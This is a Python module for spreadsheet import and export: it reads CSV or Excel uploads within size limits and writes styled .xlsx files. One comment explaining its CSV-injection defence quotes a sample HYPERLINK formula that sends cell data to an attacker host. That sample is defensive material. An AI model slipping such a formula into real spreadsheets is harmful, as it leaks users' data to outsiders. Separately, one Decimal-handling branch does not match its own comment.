"""Reading and writing spreadsheets: CSV or Excel in, Excel out."""

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font, PatternFill
from openpyxl.utils import get_column_letter


class UnreadableFile(ValueError):
    pass


def _cell_text(value) -> str:
    """Excel hands numbers over as floats; 12.0 means the integer someone typed."""
    if value is None:
        return ""
    if isinstance(value, float):
        if value.is_integer():
            return str(int(value))
        return repr(value)
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == datetime.min.time() else str(value)
    if isinstance(value, date):
        return value.isoformat()
    return str(value).strip()


# What reading a file may cost (core/uploads.py); an importer passes the installation's.
MAX_ROWS = 50_000
MAX_UNPACKED = 100 * 1024 * 1024


def read_rows(
    name: str, content: bytes, *, max_rows: int = MAX_ROWS, max_unpacked: int = MAX_UNPACKED
) -> list[list[str]]:
    """All rows of the first sheet (or of the CSV) as text, header row included. A file of
    more than ``max_rows`` data rows, or an Excel file unpacking to more than
    ``max_unpacked`` bytes, is refused before it is parsed (``UnreadableFile``)."""
    from .uploads import TooCostly, check_unpacked, check_xlsx_rows, too_many_rows

    lower = name.lower()
    if lower.endswith(".csv"):
        for encoding in ("utf-8-sig", "gb18030"):
            try:
                text = content.decode(encoding)
                break
            except UnicodeDecodeError:
                continue
        else:
            raise UnreadableFile("CSV 文件编码无法识别（请使用 UTF-8 或 GBK）")
        rows = []
        try:
            for row in csv.reader(io.StringIO(text)):
                rows.append([c.strip() for c in row])
                if len(rows) > max_rows + 1:
                    raise UnreadableFile(too_many_rows(max_rows))
        except csv.Error as exc:
            raise UnreadableFile(f"无法读取 CSV 文件（{_csv_reason(exc)}）") from None
        return rows
    if lower.endswith((".xlsx", ".xlsm", ".xls")):
        try:
            check_unpacked(content, max_unpacked)
            check_xlsx_rows(content, max_rows)
        except TooCostly as exc:
            raise UnreadableFile(str(exc)) from None
        from python_calamine import CalamineWorkbook

        try:
            book = CalamineWorkbook.from_filelike(io.BytesIO(content))
            sheet = book.get_sheet_by_index(0)
            rows = sheet.to_python(skip_empty_area=False)
        except Exception:  # calamine raises its own error types per format, in English
            raise UnreadableFile(
                "无法读取 Excel 文件：文件已损坏，或不是 .xlsx / .xls 格式"
            ) from None
        if len(rows) > max_rows + 1:  # an .xls (at most 65,536 rows) counted after reading
            raise UnreadableFile(too_many_rows(max_rows))
        # each row's values replaced by its text in place: the file's cells are held once;
        # most cells are text already, stripped here without a call (a 100,000-row file
        # has 1.6 million of them)
        for i, row in enumerate(rows):
            rows[i] = [c.strip() if c.__class__ is str else _cell_text(c) for c in row]
        return rows
    raise UnreadableFile("只支持 .xlsx、.xls 或 .csv 文件")


def _csv_reason(exc) -> str:
    text = str(exc)
    if "field larger than field limit" in text:
        return "某一格内容过长"
    if "NUL" in text:
        return "文件含有空字符，可能不是文本文件"
    return "格式有误"


@dataclass(frozen=True)
class Fixed:
    """A number written with exactly ``places`` decimals wherever it goes: a page shows
    ``77.0200``, an Excel cell holds the number with that number format (a score to its
    scheme's precision, EVALUATION.md §3)."""

    value: Decimal
    places: int
    # a share (0.0302) written as a percentage with two places fewer (3.02%)
    percent: bool = False

    def number(self) -> Decimal:
        from .money import quantize

        return quantize(Decimal(self.value), self.places)

    def text(self) -> str:
        if self.percent:
            return f"{self.number() * 100:,.{max(self.places - 2, 0)}f}%"
        return format(self.number(), ",f")

    def number_format(self) -> str:
        places = max(self.places - 2, 0) if self.percent else self.places
        text = "#,##0." + "0" * places if places > 0 else "#,##0"
        return text + "%" if self.percent else text


_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")


# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): =, +, -, @, a
# tab or a carriage return. A name such as =HYPERLINK("http://evil.example/?d="&A2,"点击查看")
# would otherwise be a live formula in the user's Excel.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would take ``text`` typed into a cell for a formula."""
    return text.startswith(FORMULA_LEADS)


def excel_text(text: str) -> str:
    """``text`` without the control characters an .xlsx cannot hold (openpyxl refuses them:
    a name with one would make the whole export fail)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def set_text(cell, text: str) -> None:
    """Write ``text`` into ``cell`` as text, never as a formula: a formula-like text is stored
    as a string with Excel's quote prefix (what typing ``'=…`` does), so it shows as written,
    stays text when the cell is edited, and the value read back is the text unchanged."""
    cell.value = excel_text(text)
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def _excel_value(value):
    if isinstance(value, Decimal):
        # openpyxl writes Decimal as a number; keep it exact in the cell's text form
        return float(value) if value == value.normalize() else float(value)
    if isinstance(value, bool):
        return "是" if value else "否"
    return value


def append_row(sheet, values: Sequence) -> None:
    """Append ``values`` to ``sheet`` (a normal or a write-only worksheet) as they are, every
    text that needs it through ``set_text`` (the others as they are: most cells of a
    long export are plain text, and a cell object each would cost more than the file)."""
    from openpyxl.cell import Cell, WriteOnlyCell

    make = WriteOnlyCell if not hasattr(sheet, "cell") else Cell
    row = []
    for value in values:
        if isinstance(value, Fixed):
            cell = make(sheet)
            cell.value = float(value.number())
            cell.number_format = value.number_format()
            value = cell
        elif isinstance(value, str) and (
            is_formula_like(value) or ILLEGAL_CHARACTERS_RE.search(value)
        ):
            cell = make(sheet)
            set_text(cell, value)
            value = cell
        row.append(value)
    sheet.append(row)


def workbook_bytes(
    headers: Sequence[str],
    rows: Iterable[Sequence],
    *,
    title: str = "Sheet1",
    notes: Sequence[str] = (),
) -> bytes:
    """An .xlsx with a bold header row; ``notes`` go on a second sheet named 说明."""
    return sheets_bytes([(title, headers, rows)], notes=notes)


def sheets_bytes(sheets: Sequence[tuple], *, notes: Sequence[str] = ()) -> bytes:
    """An .xlsx of several sheets, each ``(title, headers, rows)`` with a bold header row;
    ``notes`` go on a last sheet named 说明."""
    out = io.BytesIO()
    write_sheets(out, sheets, notes=notes)
    return out.getvalue()


def write_sheets(out, sheets: Iterable[tuple], *, notes: Sequence[str] = ()) -> None:
    """Write the .xlsx of ``sheets_bytes`` to ``out`` (a path or a binary file) in openpyxl's
    write-only mode: each row goes to a temporary file as it comes and is never kept as a cell
    object, so a long export costs about what reading its rows does and its memory does not
    grow with them. Widths and frozen panes are set before the first row, as that mode asks."""
    book = Workbook(write_only=True)
    for title, headers, rows in sheets:
        sheet = book.create_sheet(title[:31])
        for i, header in enumerate(headers, start=1):
            width = max(10, len(str(header)) * 2 + 2)
            sheet.column_dimensions[get_column_letter(i)].width = width
        sheet.freeze_panes = "A2"
        sheet.append([_header_cell(sheet, header) for header in headers])
        for row in rows:
            append_row(sheet, [_excel_value(v) for v in row])
    if notes:
        info = book.create_sheet("说明")
        info.column_dimensions["A"].width = 100
        for line in notes:
            append_row(info, [line])
    book.save(out)


def _header_cell(sheet, header):
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=header)
    cell.font = _HEADER_FONT
    cell.fill = _HEADER_FILL
    return cell
